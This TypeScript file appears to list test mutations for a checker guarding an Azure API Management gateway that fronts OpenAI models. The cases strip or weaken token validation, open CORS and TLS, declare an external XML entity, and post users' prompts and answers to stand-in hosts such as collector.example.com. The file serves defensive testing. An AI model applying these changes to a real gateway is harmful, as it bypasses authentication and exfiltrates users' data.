import { Attempt, elsewhere, group, here, service, strangers, tagged } from "../attempt";
import { Changed, get, unknown } from "../changes";

type Edit = (text: string) => string;

/** Changes the document of an API. */
const document =
  (edit: Edit, name = "apim-openai") =>
  (plan: Changed) =>
    plan.edit("apimanagement:ApiPolicy", name, "value", edit);
const tokens = /<validate-azure-ad-token[\s\S]*?<\/validate-azure-ad-token>/;
const first =
  (xml: string): Edit =>
  (text) =>
    text.replace("<inbound>", `<inbound>${xml}`);
const section =
  (name: string, xml: string): Edit =>
  (text) =>
    text.replace(`<${name}>`, `<${name}>${xml}`);
const swapped =
  (xml: string | ((found: string) => string)): Edit =>
  (text) =>
    text.replace(tokens, (found) => (typeof xml === "string" ? xml : xml(found)));
const posted = (name: string, url: string) =>
  `<${name} mode="new"><set-url>${url}</set-url><set-method>POST</set-method><set-body>@(context.Request.Body.As<string>(true))</set-body></${name}>`;
const whole = (inbound: string, more = "") =>
  `<policies><inbound><base />${inbound}</inbound><backend><base /></backend><outbound><base />${more}</outbound><on-error><base /></on-error></policies>`;

const operationPolicy =
  (value: string, format = "rawxml") =>
  (plan: Changed) =>
    plan.add("apimanagement:ApiOperationPolicy", "op", {
      ...service,
      apiId: "openai",
      operationId: "ChatCompletions_Create",
      policyId: "policy",
      format,
      value,
    });
const productPolicy = (edit: Edit) => (plan: Changed) => plan.edit("apimanagement:ProductPolicy", "apim-standard", "value", edit);
const globalPolicy = (edit: Edit) => (plan: Changed) => plan.edit("apimanagement:Policy", "apim", "value", edit);

/** One more API with a document. */
const api =
  (value: string | undefined, more: object = {}) =>
  (plan: Changed) => {
    plan.add(
      "apimanagement:Api",
      "extra",
      { apiId: "extra", path: "extra", displayName: "Extra", value: undefined, format: undefined, ...more },
      { like: "apim-openai" },
    );
    if (value !== undefined)
      plan.add("apimanagement:ApiPolicy", "extra", { ...service, apiId: "extra", policyId: "policy", format: "rawxml", value });
  };
const set = (type: string, name: string | undefined, path: string, value: unknown) => (plan: Changed) =>
  plan.set(type, name, path, value);
const ofService = (path: string, value: unknown) => set("apimanagement:ApiManagementService", "apim", path, value);
const cors = (origin: string, credentials = "true") =>
  `<cors allow-credentials="${credentials}"><allowed-origins><origin>${origin}</origin></allowed-origins><allowed-methods><method>*</method></allowed-methods><allowed-headers><header>*</header></allowed-headers></cors>`;

export const gateway: Attempt[] = [
  { name: "the document asks for no token", change: document(swapped("")) },
  {
    name: "the token is asked for in outbound",
    change: document((text) => swapped("")(text).replace("<outbound>", `<outbound>${tokens.exec(text)![0]}`)),
  },
  {
    name: "the token is asked for in on-error",
    change: document((text) => swapped("")(text).replace("<on-error>", `<on-error>${tokens.exec(text)![0]}`)),
  },
  {
    name: "the token is asked for in backend",
    change: document((text) => swapped("")(text).replace("<backend>", `<backend>${tokens.exec(text)![0]}`)),
  },
  { name: "the token is in a comment", change: document(swapped((found) => `<!-- ${found.replaceAll("--", "")} -->`)) },
  { name: "the token is in CDATA", change: document(swapped((found) => `<set-body><![CDATA[${found}]]></set-body>`)) },
  {
    name: "the token is only for some",
    change: document(
      swapped(
        (found) =>
          `<choose><when condition="@(context.Request.Headers.ContainsKey(&quot;x-strict&quot;))">${found}</when></choose>`,
      ),
    ),
  },
  {
    name: "the token is for all but some",
    change: document(
      swapped(
        (found) =>
          `<choose><when condition="@(context.Request.IpAddress == &quot;203.0.113.5&quot;)"><trace source="s"><message>x</message></trace></when><otherwise>${found}</otherwise></choose>`,
      ),
    ),
  },
  {
    name: "the token is in a choose without otherwise",
    change: document(swapped((found) => `<choose><when condition="@(true)">${found}</when></choose>`)),
  },
  {
    name: "the token is in a retry that need not run",
    change: document(swapped((found) => `<retry condition="@(false)" count="1" interval="1">${found}</retry>`)),
  },
  {
    name: "the token's refusal is 200",
    change: document((text) => text.replace('failed-validation-httpcode="401"', 'failed-validation-httpcode="200"')),
  },
  { name: "the token's tenant is common", change: document((text) => text.replace(/tenant-id="[^"]+"/, 'tenant-id="common"')) },
  {
    name: "the token's tenant is organizations, in capitals",
    change: document((text) => text.replace(/tenant-id="[^"]+"/, 'tenant-id="ORGANIZATIONS"')),
  },
  {
    name: "the token's tenant is strangers'",
    change: document((text) => text.replace(/tenant-id="[^"]+"/, `tenant-id="${strangers}"`)),
  },
  {
    name: "the token's tenant is computed",
    change: document((text) =>
      text.replace(/tenant-id="[^"]+"/, `tenant-id="@(context.Request.Headers.GetValueOrDefault(&quot;t&quot;,&quot;&quot;))"`),
    ),
  },
  {
    name: "the token's tenant is a named value",
    change: document((text) => text.replace(/tenant-id="[^"]+"/, `tenant-id="{{tenant}}"`)),
  },
  { name: "the token has no tenant", change: document((text) => text.replace(/tenant-id="[^"]+"/, "")) },
  { name: "the token has no audience", change: document((text) => text.replace(/<audiences>[\s\S]*?<\/audiences>/, "")) },
  {
    name: "the token's audience is anything",
    change: document((text) => text.replace(/<audience>[^<]*<\/audience>/, "<audience>*</audience>")),
  },
  {
    name: "the token's audience is computed",
    change: document((text) =>
      text.replace(
        /<audience>[^<]*<\/audience>/,
        "<audience>@(context.Request.Headers.GetValueOrDefault(&quot;a&quot;,&quot;&quot;))</audience>",
      ),
    ),
  },
  {
    name: "the token comes from the gateway itself",
    change: document((text) => text.replace('header-name="Authorization"', 'token-value="{{a-token}}"')),
  },
  {
    name: "the token is asked for by validate-jwt without a signature",
    change: document(
      swapped(
        `<validate-jwt header-name="Authorization" require-signed-tokens="false"><audiences><audience>a</audience></audiences></validate-jwt>`,
      ),
    ),
  },
  {
    name: "the token is asked for by validate-jwt of another issuer",
    change: document(
      swapped(
        `<validate-jwt header-name="Authorization"><openid-config url="https://issuer.example.com/.well-known/openid-configuration" /><audiences><audience>a</audience></audiences></validate-jwt>`,
      ),
    ),
  },
  {
    name: "the token is asked for by validate-jwt with a key of its own",
    change: document(
      swapped(
        `<validate-jwt header-name="Authorization"><issuer-signing-keys><key>c2VjcmV0</key></issuer-signing-keys></validate-jwt>`,
      ),
    ),
  },
  {
    name: "the token may be expired",
    change: document(
      swapped(
        `<validate-jwt header-name="Authorization" require-expiration-time="false"><openid-config url="https://login.microsoftonline.com/11111111-1111-4111-8111-111111111111/v2.0/.well-known/openid-configuration" /><audiences><audience>api://contoso.com/ai-gateway</audience></audiences></validate-jwt>`,
      ),
    ),
  },
  {
    name: "the token gives way to a client certificate",
    change: document(
      swapped(
        `<validate-client-certificate validate-trust="false"><identities><identity thumbprint="00" /></identities></validate-client-certificate>`,
      ),
    ),
  },
  { name: "the token gives way to a password", change: document(swapped(`<authentication-basic username="a" password="b" />`)) },
  {
    name: "the token gives way to a header with a fixed value",
    change: document(
      swapped(
        `<check-header name="x-secret" failed-check-httpcode="401" failed-check-error-message="no" ignore-case="true"><value>s3cret</value></check-header>`,
      ),
    ),
  },
  {
    name: "the token gives way to an address filter",
    change: document(swapped(`<ip-filter action="allow"><address>10.0.0.1</address></ip-filter>`)),
  },
  {
    name: "an answer stands before the token",
    change: document(first('<return-response><set-status code="200" reason="OK" /></return-response>')),
  },
  {
    name: "a mock stands before the token",
    change: document(first('<mock-response status-code="200" content-type="application/json" />')),
  },
  ...["wait", 'retry condition="@(true)" count="1" interval="1"', 'limit-concurrency key="k" max-count="1"'].map((element) => ({
    name: `a call stands before the token, in a choice in ${element.split(" ")[0]}`,
    change: document(
      first(
        `<${element}><choose><when condition="@(true)">${posted("send-request", "https://{{host-swedencentral}}/x")}</when></choose></${element.split(" ")[0]}>`,
      ),
    ),
  })),
  { name: "a call stands before the token", change: document(first(posted("send-request", "https://collector.example.com/x"))) },
  {
    name: "a cache answers before the token",
    change: document(first('<cache-lookup vary-by-developer="false" vary-by-developer-groups="false" />')),
  },
  {
    name: "a redirect stands before the token",
    change: document(
      first(
        '<return-response><set-status code="302" reason="Found" /><set-header name="Location" exists-action="override"><value>https://x.example.com</value></set-header></return-response>',
      ),
    ),
  },
  {
    name: "the semantic cache answers",
    change: document(
      first(
        '<azure-openai-semantic-cache-lookup score-threshold="0.8" embeddings-backend-id="x" embeddings-backend-auth="system-assigned" />',
      ),
    ),
  },
  {
    name: "a fragment answers before the token",
    change: (plan) => {
      plan.add("apimanagement:PolicyFragment", "f", {
        ...service,
        id: "f",
        format: "rawxml",
        value: '<fragment><return-response><set-status code="200" /></return-response></fragment>',
      });
      document(first('<include-fragment fragment-id="f" />'))(plan);
    },
  },
  {
    name: "a fragment that nobody knows stands before the token",
    change: document(first('<include-fragment fragment-id="of-the-portal" />')),
  },
  {
    name: "the token is in a fragment that nobody knows",
    change: document(swapped('<include-fragment fragment-id="of-the-portal" />')),
  },
  {
    name: "a fragment sends prompts away",
    change: (plan) => {
      plan.add("apimanagement:PolicyFragment", "f", {
        ...service,
        id: "f",
        format: "rawxml",
        value: `<fragment>${posted("send-one-way-request", "https://collector.example.com/x")}</fragment>`,
      });
    },
  },
  ...["send-request", "send-one-way-request"].flatMap((name) =>
    [
      ["inbound", "https://collector.example.com/x"],
      ["outbound", "https://203.0.113.4/x"],
      ["on-error", "http://collector.example.com"],
      ["backend", "@(context.Request.Headers.GetValueOrDefault(&quot;u&quot;,&quot;&quot;))"],
      ["outbound", "{{collector}}"],
    ].map(([where, url]) => ({ name: `${name} in ${where} to ${url}`, change: document(section(where!, posted(name, url!))) })),
  ),
  ...["collector.example.com", "oai.openai.azure.com.example.com", "@(context.Request.Url.Host)"].map((value) => ({
    name: `a named value with the host ${value}`,
    change: (plan: Changed) => {
      plan.add("apimanagement:NamedValue", "collector", {
        ...service,
        namedValueId: "collector",
        displayName: "collector",
        secret: false,
        value,
      });
      document(section("outbound", posted("send-request", "https://{{collector}}/x")))(plan);
    },
  })),
  ...[
    "https://{{host-swedencentral}}.example.com/x",
    "https://{{host-swedencentral}}@example.com/x",
    "https://{{gateway-identity-client-id}}/x",
  ].map((url) => ({
    name: `a call to ${url}`,
    change: document(section("outbound", posted("send-request", url))),
  })),
  {
    name: "a call without its own url",
    change: document(
      section("outbound", '<send-request mode="copy" response-variable-name="r"><set-method>POST</set-method></send-request>'),
    ),
  },
  {
    name: "the backend is a host outside",
    change: document(section("backend", '<set-backend-service base-url="https://collector.example.com" />')),
  },
  {
    name: "the backend's address is computed",
    change: document(section("inbound", '<set-backend-service base-url="@((string)context.Variables[&quot;x&quot;])" />')),
  },
  {
    name: "prompts go to an event hub of the portal",
    change: document(
      section("outbound", '<log-to-eventhub logger-id="strangers">@(context.Response.Body.As<string>(true))</log-to-eventhub>'),
    ),
  },
  {
    name: "prompts go to Dapr",
    change: document(
      section(
        "outbound",
        '<publish-to-dapr pubsub-name="p" topic="t">@(context.Request.Body.As<string>(true))</publish-to-dapr>',
      ),
    ),
  },
  {
    name: "prompts go to an http data source",
    change: document(
      section(
        "inbound",
        "<http-data-source><http-request><set-url>https://x.example.com</set-url></http-request></http-data-source>",
      ),
    ),
  },
  { name: "a proxy stands between", change: document(section("backend", '<proxy url="http://proxy.example.com:8080" />')) },
  {
    name: "an invoke of Dapr",
    change: document(section("inbound", '<set-backend-service backend-id="dapr" dapr-app-id="a" dapr-method="m" />')),
  },
  {
    name: "the gateway's token is for the management of Azure",
    change: document(section("backend", '<authentication-managed-identity resource="https://management.azure.com/" />')),
  },
  {
    name: "the gateway's token is for a resource that is computed",
    change: document(
      section(
        "backend",
        '<authentication-managed-identity resource="@(context.Request.Headers.GetValueOrDefault(&quot;r&quot;,&quot;&quot;))" />',
      ),
    ),
  },
  {
    name: "the gateway's token is for the vault, kept in a variable",
    change: document(
      section("inbound", '<authentication-managed-identity resource="https://vault.azure.net" output-token-variable-name="t" />'),
    ),
  },
  {
    name: "a credential of the portal is used",
    change: document(
      section("inbound", '<get-authorization-context provider-id="p" authorization-id="a" context-variable-name="x" />'),
    ),
  },
  ...["*", "https://*.example.com", "https://evil.example.com", "null"].map((origin) => ({
    name: `pages of ${origin} may call with credentials`,
    change: document(first(cors(origin))),
  })),
  { name: "pages of everybody may call without credentials", change: globalPolicy(first(cors("*", "false"))) },
  { name: "jsonp", change: document(section("outbound", '<jsonp callback-parameter-name="cb" />')) },
  {
    name: "cross-domain",
    change: document(
      first(
        '<cross-domain><cross-domain-policy><allow-http-request-headers-from domain="*" headers="*" /></cross-domain-policy></cross-domain>',
      ),
    ),
  },
  {
    name: "an element that nobody knows",
    change: document(section("inbound", '<invoke-request url="https://x.example.com" />')),
  },
  { name: "a document that leaves out the service's", change: document((text) => text.replaceAll("<base />", "")) },
  {
    name: "a document is empty",
    change: set(
      "apimanagement:ApiPolicy",
      "apim-openai",
      "value",
      "<policies><inbound /><backend /><outbound /><on-error /></policies>",
    ),
  },
  { name: "a document is not well-formed", change: document((text) => text.slice(0, -12)) },
  {
    name: "a document is a link",
    change: (plan) =>
      plan.replace(plan.one("apimanagement:ApiPolicy", "apim-openai"), ({ inputs }) => {
        inputs.format = "rawxml-link";
        inputs.value = "https://x.example.com/p.xml";
      }),
  },
  {
    name: "a document is a link in capitals",
    change: (plan) =>
      plan.replace(plan.one("apimanagement:ApiPolicy", "apim-openai"), ({ inputs }) => {
        inputs.format = "XML-LINK";
        inputs.value = "https://x.example.com/p.xml";
      }),
  },
  { name: "a document is not known", change: set("apimanagement:ApiPolicy", "apim-openai", "value", unknown) },
  { name: "a document's format is not known", change: set("apimanagement:ApiPolicy", "apim-openai", "format", unknown) },
  {
    name: "a document's entity is declared",
    change: document((text) => `<!DOCTYPE p [<!ENTITY x SYSTEM "https://x.example.com/e">]>${text}`),
  },
  { name: "a document of the other API is gone", change: (plan) => plan.remove("apimanagement:ApiPolicy", "apim-openai-v1") },
  { name: "the document of the service is gone", change: (plan) => plan.remove("apimanagement:Policy", "apim") },
  { name: "the document of the product is gone", change: (plan) => plan.remove("apimanagement:ProductPolicy", "apim-standard") },
  {
    name: "the document of an API is for another API",
    change: set("apimanagement:ApiPolicy", "apim-openai", "apiId", "nothing"),
  },
  {
    name: "an operation answers by itself",
    change: operationPolicy(
      '<policies><inbound><return-response><set-status code="200" /></return-response></inbound><backend /><outbound /><on-error /></policies>',
    ),
  },
  {
    name: "an operation leaves out the API's document",
    change: operationPolicy(
      "<policies><inbound></inbound><backend><forward-request /></backend><outbound /><on-error /></policies>",
    ),
  },
  {
    name: "an operation sends prompts away",
    change: operationPolicy(whole("", posted("send-one-way-request", "https://collector.example.com"))),
  },
  {
    name: "an operation's policy is escaped XML with a call",
    change: operationPolicy(whole("", posted("send-one-way-request", "https://collector.example.com")), "xml"),
  },
  {
    name: "the product answers by itself",
    change: productPolicy(first('<return-response><set-status code="200" /></return-response>')),
  },
  {
    name: "the product sends calls elsewhere",
    change: productPolicy(first('<set-backend-service base-url="https://collector.example.com" />')),
  },
  {
    name: "the service's document sends answers away",
    change: globalPolicy(section("outbound", posted("send-one-way-request", "https://collector.example.com"))),
  },
  {
    name: "a product has no limit of tokens",
    change: productPolicy(
      () =>
        "<policies><inbound><base /></inbound><backend><base /></backend><outbound><base /></outbound><on-error><base /></on-error></policies>",
    ),
  },
  { name: "one more API without a document", change: api(undefined) },
  { name: "one more API whose document only has the key", change: api(whole('<rate-limit calls="1" renewal-period="1" />')) },
  { name: "one more API with a backend of its own", change: api(undefined, { serviceUrl: "https://collector.example.com" }) },
  {
    name: "one more API without a subscription",
    change: (plan) => {
      const text = String(get(plan.one("apimanagement:ApiPolicy", "apim-openai").inputs, "value"));
      api(text, { subscriptionRequired: false })(plan);
    },
  },
  {
    name: "one more API that takes plain HTTP",
    change: (plan) => {
      const text = String(get(plan.one("apimanagement:ApiPolicy", "apim-openai").inputs, "value"));
      api(text, { protocols: ["http", "https"] })(plan);
    },
  },
  {
    name: "one more API of web sockets",
    change: api(undefined, { apiType: "websocket", type: "websocket", protocols: ["wss"], serviceUrl: "wss://x.example.com" }),
  },
  {
    name: "one more API of GraphQL",
    change: (plan) => {
      const text = String(get(plan.one("apimanagement:ApiPolicy", "apim-openai").inputs, "value"));
      api(text, { apiType: "graphql" })(plan);
    },
  },
  {
    name: "one more API read from a link",
    change: (plan) => {
      const text = String(get(plan.one("apimanagement:ApiPolicy", "apim-openai").inputs, "value"));
      api(text, { format: "openapi-link", value: "https://x.example.com/a.json" })(plan);
    },
  },
  {
    name: "an API's key is not known to be asked for",
    change: set("apimanagement:Api", "apim-openai", "subscriptionRequired", unknown),
  },
  {
    name: "an API no longer says that it asks for a key",
    change: set("apimanagement:Api", "apim-openai", "subscriptionRequired", undefined),
  },
  ...[
    ["virtualNetworkType", "External"],
    ["virtualNetworkType", "None"],
    ["virtualNetworkType", undefined],
    ["virtualNetworkType", unknown],
    ["virtualNetworkConfiguration", undefined],
    ["virtualNetworkConfiguration.subnetResourceId", `${elsewhere}/Microsoft.Network/virtualNetworks/v/subnets/s`],
    ["developerPortalStatus", "Enabled"],
    ["legacyPortalStatus", "Enabled"],
    ["natGatewayState", "Enabled"],
    ["additionalLocations", [{ location: "francecentral", sku: { name: "Developer", capacity: 1 } }]],
    [
      "hostnameConfigurations",
      [{ type: "Proxy", hostName: "ai.example.com", keyVaultId: "https://strangers.vault.azure.net/secrets/x" }],
    ],
    ["certificates", [{ storeName: "Root", encodedCertificate: "x" }]],
    ["publicIpAddressId", `${elsewhere}/Microsoft.Network/publicIPAddresses/p`],
    ["identity", undefined],
    ["identity.userAssignedIdentities", { [`${elsewhere}/Microsoft.ManagedIdentity/userAssignedIdentities/i`]: {} }],
    ["sku.name", "Consumption"],
    ["customProperties", unknown],
  ].map(([path, value]) => ({
    name: `the service's ${String(path)} is ${JSON.stringify(value)?.slice(0, 60)}`,
    change: ofService(String(path), value),
  })),
  ...["Protocols.Tls10", "Protocols.Tls11", "Protocols.Ssl30", "Backend.Protocols.Tls10"].map((key) => ({
    name: `the service takes ${key}`,
    change: (plan: Changed) =>
      plan.replace(plan.one("apimanagement:ApiManagementService"), ({ inputs }) => {
        (inputs.customProperties as Record<string, string>)[`Microsoft.WindowsAzure.ApiManagement.Gateway.Security.${key}`] =
          "true";
      }),
  })),
  ...[
    ["url", "https://api.openai.com/v1"],
    ["url", "http://oai-contoso-ai-dev-swedencentral-dowjv.openai.azure.com/openai"],
    ["url", "https://oai-contoso-ai-dev-swedencentral-dowjv.openai.azure.com.evil.example/openai"],
    ["url", "https://evil.example/oai-contoso-ai-dev-swedencentral-dowjv.openai.azure.com"],
    ["url", "https://oai-contoso-ai-dev-swedencentral-dowjv.openai.azure.com@evil.example/"],
    ["url", unknown],
    ["tls.validateCertificateChain", false],
    ["tls.validateCertificateName", "false"],
    ["credentials", { header: { "api-key": ["k"] } }],
    ["credentials", { authorization: { scheme: "Bearer", parameter: "x" } }],
    ["proxy", { url: "http://p.example.com" }],
    ["resourceId", "https://management.azure.com/x"],
    ["properties", { serviceFabricCluster: { managementEndpoints: ["https://x.example.com"] } }],
    ["protocol", "soap"],
  ].map(([path, value]) => ({
    name: `a backend's ${String(path)} is ${JSON.stringify(value)}`,
    change: set("apimanagement:Backend", "apim-francecentral-gpt-5-1", String(path), value),
  })),
  {
    name: "a pool takes a backend of strangers",
    change: set("apimanagement:Backend", "apim-model-gpt-5-1", "pool.services.-", {
      id: `${elsewhere}/Microsoft.ApiManagement/service/a/backends/b`,
      priority: 1,
      weight: 1,
    }),
  },
  {
    name: "a pool takes a backend that was made by hand",
    change: set("apimanagement:Backend", "apim-model-gpt-5-1", "pool.services.-", {
      id: `${here}/Microsoft.ApiManagement/service/apim-contoso-ai-dev-dowjv/backends/by-hand`,
      priority: 1,
      weight: 1,
    }),
  },
  {
    name: "a secret stands in a named value",
    change: (plan) =>
      plan.add("apimanagement:NamedValue", "n", {
        ...service,
        namedValueId: "n",
        displayName: "n",
        secret: true,
        value: "s3cret",
      }),
  },
  {
    name: "a key stands in a named value that is no secret",
    change: (plan) =>
      plan.add("apimanagement:NamedValue", "n", {
        ...service,
        namedValueId: "openai-key",
        displayName: "openai-key",
        secret: false,
        value: "0123456789abcdef0123456789abcdef",
      }),
  },
  {
    name: "a secret comes from a vault of strangers",
    change: (plan) =>
      plan.add("apimanagement:NamedValue", "n", {
        ...service,
        namedValueId: "n",
        displayName: "n",
        secret: true,
        keyVault: { secretIdentifier: "https://strangers.vault.azure.net/secrets/x" },
      }),
  },
  {
    name: "a logger writes to an event hub of strangers",
    change: (plan) =>
      plan.add("apimanagement:Logger", "l", {
        ...service,
        loggerId: "l",
        loggerType: "azureEventHub",
        credentials: { name: "h", connectionString: "Endpoint=sb://x.servicebus.windows.net/;SharedAccessKey=k" },
      }),
  },
  {
    name: "a logger writes to Application Insights of strangers",
    change: set("apimanagement:Logger", "apim-applicationinsights", "resourceId", `${elsewhere}/Microsoft.Insights/components/c`),
  },
  {
    name: "a product needs no subscription",
    change: set("apimanagement:Product", "apim-standard", "subscriptionRequired", false),
  },
  {
    name: "a product for everybody",
    change: (plan) => plan.add("apimanagement:ProductGroup", "g", { ...service, productId: "standard", groupId: "guests" }),
  },
  {
    name: "a product for all developers",
    change: (plan) => plan.add("apimanagement:ProductGroup", "g", { ...service, productId: "standard", groupId: "Developers" }),
  },
  {
    name: "a group of strangers",
    change: (plan) =>
      plan.add("apimanagement:Group", "g", {
        ...service,
        groupId: "g",
        displayName: "g",
        type: "external",
        externalId: `aad://${strangers}/groups/bbbbbbbb-0000-4000-8000-000000000009`,
      }),
  },
  ...[
    "/apis",
    "/apis/openai",
    "/",
    `${here}/Microsoft.ApiManagement/service/apim-contoso-ai-dev-dowjv/apis`,
    `${elsewhere}/Microsoft.ApiManagement/service/a/products/p`,
    `${here}/Microsoft.ApiManagement/service/apim-contoso-ai-dev-dowjv/products/of-the-portal`,
    "/products/of-the-portal",
    unknown,
  ].map((scope) => ({
    name: `a subscription of scope ${scope}`,
    change: (plan: Changed) =>
      plan.add("apimanagement:Subscription", "s", { sid: "s", displayName: "s", scope }, { like: "apim-claims-assistant" }),
  })),
  {
    name: "a subscription with a key of the program",
    change: set("apimanagement:Subscription", "apim-claims-assistant", "primaryKey", "0123456789"),
  },
  {
    name: "a subscription that traces",
    change: set("apimanagement:Subscription", "apim-claims-assistant", "allowTracing", true),
  },
  ...[
    "apimanagement:Gateway",
    "apimanagement:WorkspaceGateway",
    "apimanagement:ApiGateway",
    "apimanagement:Workspace",
    "apimanagement:WorkspaceApi",
    "apimanagement:IdentityProvider",
    "apimanagement:OpenIdConnectProvider",
    "apimanagement:AuthorizationServer",
    "apimanagement:AuthorizationProvider",
    "apimanagement:User",
    "apimanagement:Certificate",
    "apimanagement:Cache",
    "apimanagement:TenantAccess",
    "apimanagement:DelegationSetting",
    "apimanagement:SignUpSetting",
    "apimanagement:EmailTemplate",
    "apimanagement:ContentItem",
    "apimanagement:GlobalSchema",
    "apimanagement:GraphQLApiResolver",
    "apimanagement:GraphQLApiResolverPolicy",
    "apimanagement:PrivateEndpointConnectionByName",
    "apimanagement:ApiIssue",
    "apimanagement:NotificationRecipientEmail",
    "apimanagement:ApiWiki",
    "apimanagement:WorkspacePolicy",
    "apimanagement:GroupUser",
    "apimanagement:GatewayApiEntityTag",
  ].map((type) => ({
    name: `${type} stands in the service`,
    change: (plan: Changed) => plan.add(type, "added", { ...service }),
  })),
  {
    name: "prompts are logged to Application Insights",
    change: set("apimanagement:Diagnostic", "apim-applicationinsights", "frontend.request.body.bytes", 8192),
  },
  {
    name: "answers are logged to Application Insights",
    change: set("apimanagement:Diagnostic", "apim-applicationinsights", "backend.response.body.bytes", 100),
  },
  {
    name: "the service's own diagnostic is gone",
    change: (plan) => plan.remove("apimanagement:Diagnostic", "apim-azuremonitor"),
  },
  { name: "the service logs a tenth", change: set("apimanagement:Diagnostic", "apim-azuremonitor", "sampling.percentage", 10) },
  {
    name: "an API has a diagnostic of its own with bodies",
    change: (plan) =>
      plan.add("apimanagement:ApiDiagnostic", "d", {
        ...service,
        apiId: "openai",
        diagnosticId: "applicationinsights",
        loggerId: `${here}/Microsoft.ApiManagement/service/apim-contoso-ai-dev-dowjv/loggers/applicationinsights`,
        frontend: { request: { body: { bytes: 8192 } } },
      }),
  },
  {
    name: "an API's own diagnostic logs little",
    change: (plan) =>
      plan.add("apimanagement:ApiDiagnostic", "d", {
        ...service,
        apiId: "openai",
        diagnosticId: "azuremonitor",
        loggerId: `${here}/Microsoft.ApiManagement/service/apim-contoso-ai-dev-dowjv/loggers/azuremonitor`,
        sampling: { samplingType: "fixed", percentage: 1 },
      }),
  },
  {
    name: "an API's log of prompts is cut",
    change: set("resources:Resource", "apim-openai-llm", "properties.largeLanguageModel.requests.maxSizeInBytes", 100),
  },
  {
    name: "an API's log of prompts has no answers",
    change: set("resources:Resource", "apim-openai-llm", "properties.largeLanguageModel.responses", undefined),
  },
  {
    name: "an API's log of prompts is sampled",
    change: set("resources:Resource", "apim-openai-llm", "properties.sampling.percentage", 5),
  },
  { name: "an API's log of prompts is gone", change: (plan) => plan.remove("resources:Resource", "apim-openai-v1-llm") },
  {
    name: "the logger of Azure Monitor is gone",
    change: (plan) => plan.remove("resources:Deployment", "apim-azuremonitor-logger"),
  },
  {
    name: "a service beside the shield's",
    change: (plan) =>
      plan.add("apimanagement:ApiManagementService", "second", {
        ...group,
        ...tagged,
        serviceName: "apim-second",
        location: "swedencentral",
        sku: { name: "BasicV2", capacity: 1 },
        publisherEmail: "a@contoso.com",
        publisherName: "A",
      }),
  },
];
